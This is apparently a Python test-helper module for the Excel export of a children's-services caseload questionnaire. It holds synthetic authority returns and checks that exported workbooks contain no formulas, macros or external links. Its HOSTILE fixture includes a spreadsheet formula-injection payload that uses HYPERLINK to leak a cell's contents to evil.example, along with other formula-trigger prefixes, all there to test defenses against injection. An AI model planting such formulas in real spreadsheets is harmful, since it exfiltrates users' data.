"""Synthetic returns and workbook checks shared by the Excel tests (nothing here is real data)."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

from openpyxl import load_workbook

from models.questionnaire import flatten, questions, unflatten
from models.returns import AuthorityReturn, SurveyRound

ROUND = SurveyRound(
    id="fake-round",
    title="A synthetic round for tests",
    region="Nowhere",
    source="synthetic-source.txt",
    kind="questionnaire",
    open_for_submissions=True,
)
PUBLISHED = SurveyRound(
    id="fake-published",
    title="Synthetic published descriptions",
    source=["doc-a.txt", "doc-b.txt"],
    kind="published_descriptions",
)
ROUNDS = {ROUND.id: ROUND, PUBLISHED.id: PUBLISHED}

#: Answers a spreadsheet could read as formulas (each must come out as plain text).
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "sum": "=1+1",
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A2)",
    "tab": "\tx",
    "cr": "\rx",
}

LONG_ANSWER = ("A long answer that goes on. " * 200).strip()  # about 5,600 characters


def _section(text: str, low: int | None, high: int | None, unit: str, population: str, **kw: Any) -> dict:
    return {
        "caseload": {"text": text, "low": low, "high": high, "unit": unit, "population": population},
        "expectations": kw.get("expectations", "Chair reviews.\nVisit children between reviews."),
        "quality_inputs": kw.get("quality_inputs", "Midway reviews and a QA form after each meeting."),
        "impact": kw.get("impact", "Audit findings and feedback from children."),
        "qa_activities": kw.get("qa", ["midway_review", "post_meeting_qa_form"]),
        "impact_evidence": kw.get("impact_evidence", ["audit_findings", "service_user_feedback"]),
        "evidence": kw.get("evidence", {}),
    }


def northshire() -> AuthorityReturn:
    """Separate roles, both sections, FTEs and a data-quality note."""
    return AuthorityReturn.model_validate(
        {
            "authority": "Northshire",
            "round": ROUND.id,
            "combined_role": False,
            "iro": _section(
                "About 65 children",
                65,
                65,
                "children",
                "looked_after",
                expectations=LONG_ANSWER,
                evidence={"midway_review": ["Midway reviews."]},
            ),
            "cp_chair": _section(
                "40-50 families", 40, 50, "families", "child_protection", qa=["dispute_resolution"]
            ),
            "workforce": {"iro_fte": 7.5, "cp_chair_fte": 4},
            "notes": ["Read '65' as children looked after.", "Second note."],
            "provenance": {"source": "synthetic", "channel": "seed", "version": 1},
        },
        context={"require_answers": True},
    )


def southshire() -> AuthorityReturn:
    """A combined role answered in one section ('up to 55')."""
    return AuthorityReturn.model_validate(
        {
            "authority": "Southshire",
            "round": ROUND.id,
            "combined_role": True,
            "iro": _section("Up to 55", None, 55, "cases", "mixed", qa=["case_file_audit"]),
            "cp_chair": None,
            "provenance": {"source": "synthetic", "channel": "seed", "version": 1},
        },
        context={"require_answers": True},
    )


def westshire_published() -> AuthorityReturn:
    """A published description: no caseload, model not stated."""
    return AuthorityReturn.model_validate(
        {
            "authority": "Westshire",
            "round": PUBLISHED.id,
            "combined_role": None,
            "iro": {"expectations": "Quoted passage.", "qa_activities": ["panels"]},
            "provenance": {"source": "doc-a.txt", "channel": "seed", "version": 1},
        }
    )


def hostile_values() -> dict[str, Any]:
    """Flat answers as the form holds them, with hostile text in every text answer."""
    values = flatten(northshire())
    values["iro.caseload.text"] = HOSTILE["plus"]
    values["iro.expectations"] = HOSTILE["hyperlink"]
    values["iro.quality_inputs"] = HOSTILE["at"]
    values["iro.impact"] = HOSTILE["tab"]
    values["cp_chair.caseload.text"] = HOSTILE["minus"]
    values["cp_chair.expectations"] = HOSTILE["sum"]
    values["cp_chair.quality_inputs"] = HOSTILE["cr"]
    values["cp_chair.impact"] = "=" + HOSTILE["sum"]
    values["iro.caseload.parts.0.label"] = None
    return values


def hostile_by_form_path() -> AuthorityReturn:
    """The hostile answers through the form's path: unflatten on the base, then validate."""
    base = northshire().model_dump(mode="json")
    data = unflatten(hostile_values(), base)
    data["authority"] = "Eastshire"
    return AuthorityReturn.model_validate(data, context={"require_answers": True})


def returns() -> list[AuthorityReturn]:
    return [northshire(), southshire(), westshire_published()]


# ---------------------------------------------------------------------------
# Workbook checks


def open_both(data: bytes):
    """The workbook as openpyxl sees it (formulas not evaluated)."""
    return load_workbook(io.BytesIO(data))


def all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


FORMULA_TAG = re.compile(rb"<(?:\w+:)?f[ >/]")


def assert_no_formulas_macros_or_links(data: bytes) -> None:
    """No cell is a formula (openpyxl and the raw XML), no macros, no external links."""
    wb = open_both(data)
    formulas = [(s, c.coordinate) for s, c in all_cells(wb) if c.data_type == "f"]
    assert formulas == [], formulas
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = zf.namelist()
        assert not [n for n in names if "vbaProject" in n or "externalLink" in n], names
        for name in names:
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name)
                assert not FORMULA_TAG.search(xml), f"formula element in {name}"
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in zf.read(name), name


# ---------------------------------------------------------------------------
# Filling a template as a person would

#: The template row of each question (row 1 is the header).
ROW = {q.path: i for i, q in enumerate(questions(), start=2)}


def fill(data: bytes, answers: dict[str, Any]) -> bytes:
    """Type answers into a template's answer column (text as text, numbers as numbers)."""
    from exports.xlsx import set_value

    wb = open_both(data)
    ws = wb["Return"]
    for path, value in answers.items():
        set_value(ws.cell(row=ROW[path], column=3), value)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
